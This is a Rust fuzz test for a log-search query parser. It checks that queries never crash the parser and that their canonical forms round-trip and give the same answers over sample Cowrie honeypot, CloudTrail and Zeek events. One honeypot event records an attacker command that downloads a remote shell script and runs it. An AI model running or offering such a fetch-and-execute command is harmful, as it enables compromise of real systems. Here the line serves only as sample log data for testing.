//! The query parser on any text: never a crash; what parses has a canonical form (which
//! answers show and saved searches keep) that parses to itself and answers alike over
//! events of every shape.
#![no_main]

use libfuzzer_sys::fuzz_target;
use shared_sketch::codec::encode_stored;
use shared_sketch::parse;
use workers::{ScanOptions, scan_text};

/// Events of the shapes queries meet: nested objects, arrays, numbers, times, nulls.
const EVENTS: &[u8] = br#"{"timestamp":"2018-05-06T10:00:01.5Z","eventid":"cowrie.login.failed","src_ip":"10.0.0.5","username":"root","password":"admin","dst_port":22,"duration":1.5}
{"eventTime":"2021-01-02T03:04:05Z","eventName":"GetObject","sourceIPAddress":"198.51.100.7","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/alice","userName":"alice"},"requestParameters":{"bucketName":"logs","key":"a/b"},"resources":[{"ARN":"arn:aws:s3:::logs"}],"tags":["x","y"],"errorCode":null}
{"ts":1588317520.80286,"id.orig_h":"10.0.1.5","id.resp_p":443,"proto":"tcp","orig_bytes":643,"conn_state":"SF","bytes":"12"}
not json at all
{"timestamp":"2018-05-06T10:00:09Z","eventid":"cowrie.command.input","src_ip":"10.0.0.6","input":"wget http://x/y.sh; sh y.sh","dst_port":2222,"duration":-3}
"#;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let Ok(query) = parse(text) else {
        return;
    };
    let canonical = query.to_string();
    let again = match parse(&canonical) {
        Ok(again) => again,
        Err(e) => panic!("{text:?} parses but its canonical form {canonical:?} does not: {e}"),
    };
    assert_eq!(
        again.to_string(),
        canonical,
        "the canonical form of {text:?} is not canonical"
    );
    let answer = scan_text(EVENTS, "events", &query, &ScanOptions::default());
    let _ = answer.result(&query);
    // Read back to another query (a phrase for a word, say): it must mean the same.
    if again != query {
        let canonical_answer = scan_text(EVENTS, "events", &again, &ScanOptions::default());
        assert!(
            encode_stored(&answer).ok() == encode_stored(&canonical_answer).ok(),
            "{text:?} and its canonical form {canonical:?} answer differently"
        );
    }
});
